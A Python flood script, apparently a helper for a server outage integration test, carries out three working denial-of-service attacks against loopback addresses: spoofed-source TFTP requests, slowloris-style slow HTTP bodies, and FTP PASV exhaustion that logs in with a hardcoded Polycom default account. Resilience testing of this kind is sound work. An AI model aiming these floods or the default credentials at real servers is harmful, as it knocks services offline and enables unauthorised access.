"""One attacker with no credentials trying to take the server down, for tests/it/outage.rs.

    flood.py tftp-spoof HOST PORT NAME SOURCES PER_SOURCE
        Read requests for NAME with forged sources: SOURCES loopback addresses (127.19.x.y), each
        sending PER_SOURCE requests from as many ports; every request asks for the largest block
        and window and a 255-second timeout. Nobody ever reads an answer. Prints {"sent": N}.
    flood.py slow-body HOST PORT PATH SOURCES PER_SOURCE SECONDS
        From SOURCES loopback addresses (127.20.0.x), PER_SOURCE connections each send a POST to
        PATH declaring a 100 MB form body, then one byte of it every 2 seconds for SECONDS.
        Prints {"opened": N, "closed_by_server": M} (how many the server closed before the end).
    flood.py pasv HOST PORT SOURCE SESSIONS SECONDS
        SESSIONS FTP sessions from SOURCE log in with the phones' public account and send PASV
        over and over for SECONDS, never connecting to a data port. Prints {"pasv_ok": N,
        "pasv_refused": M}.
"""

import json
import socket
import sys
import threading
import time


def tftp_spoof(host, port, name, sources, per_source):
    request = (b"\x00\x01" + name.encode() + b"\x00octet\x00timeout\x00255\x00blksize\x0065464\x00"
               b"windowsize\x0065535\x00tsize\x000\x00")
    sent = 0
    for index in range(sources):
        source = f"127.19.{index // 250}.{index % 250 + 1}"
        for _ in range(per_source):
            sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
            sock.bind((source, 0))
            sock.sendto(request, (host, port))
            sock.close()
            sent += 1
            # Paced as a sender must be so that the packets are not dropped at the socket.
            if sent % 50 == 0:
                time.sleep(0.01)
    return {"sent": sent}


def slow_body(host, port, path, sources, per_source, seconds):
    head = (f"POST {path} HTTP/1.1\r\nHost: x\r\nContent-Type: application/x-www-form-urlencoded\r\n"
            f"Content-Length: 100000000\r\n\r\n").encode()
    conns = []
    for index in range(sources):
        for _ in range(per_source):
            try:
                sock = socket.create_connection((host, port), timeout=5,
                                                source_address=(f"127.20.0.{index + 1}", 0))
                sock.sendall(head + b"t")
                sock.setblocking(False)
                conns.append(sock)
            except OSError:
                pass
    opened = len(conns)
    closed = set()
    deadline = time.time() + seconds
    while time.time() < deadline:
        for number, sock in enumerate(conns):
            if number in closed:
                continue
            try:
                data = sock.recv(4096)
                if data == b"" or data.startswith(b"HTTP/"):
                    closed.add(number)
                    continue
            except BlockingIOError:
                pass
            except OSError:
                closed.add(number)
                continue
            try:
                sock.send(b"x")
            except OSError:
                closed.add(number)
        time.sleep(2)
    for sock in conns:
        sock.close()
    return {"opened": opened, "closed_by_server": len(closed)}


def pasv(host, port, source, sessions, seconds):
    counts = {"pasv_ok": 0, "pasv_refused": 0}
    lock = threading.Lock()

    def one():
        try:
            sock = socket.create_connection((host, port), timeout=10, source_address=(source, 0))
        except OSError:
            return
        reader = sock.makefile("rb")

        def reply():
            line = reader.readline()
            while len(line) >= 4 and line[3:4] == b"-":
                line = reader.readline()
            return line

        try:
            reply()
            for command in (b"USER PlcmSpIp\r\n", b"PASS PlcmSpIp\r\n"):
                sock.sendall(command)
                reply()
            deadline = time.time() + seconds
            while time.time() < deadline:
                sock.sendall(b"PASV\r\n")
                line = reply()
                with lock:
                    counts["pasv_ok" if line.startswith(b"227") else "pasv_refused"] += 1
                if not line:
                    return
        except OSError:
            pass
        finally:
            sock.close()

    threads = [threading.Thread(target=one) for _ in range(sessions)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    return counts


def main():
    kind, args = sys.argv[1], sys.argv[2:]
    if kind == "tftp-spoof":
        result = tftp_spoof(args[0], int(args[1]), args[2], int(args[3]), int(args[4]))
    elif kind == "slow-body":
        result = slow_body(args[0], int(args[1]), args[2], int(args[3]), int(args[4]), float(args[5]))
    elif kind == "pasv":
        result = pasv(args[0], int(args[1]), args[2], int(args[3]), float(args[4]))
    else:
        raise SystemExit(f"unknown attack {kind}")
    print(json.dumps(result))


main()
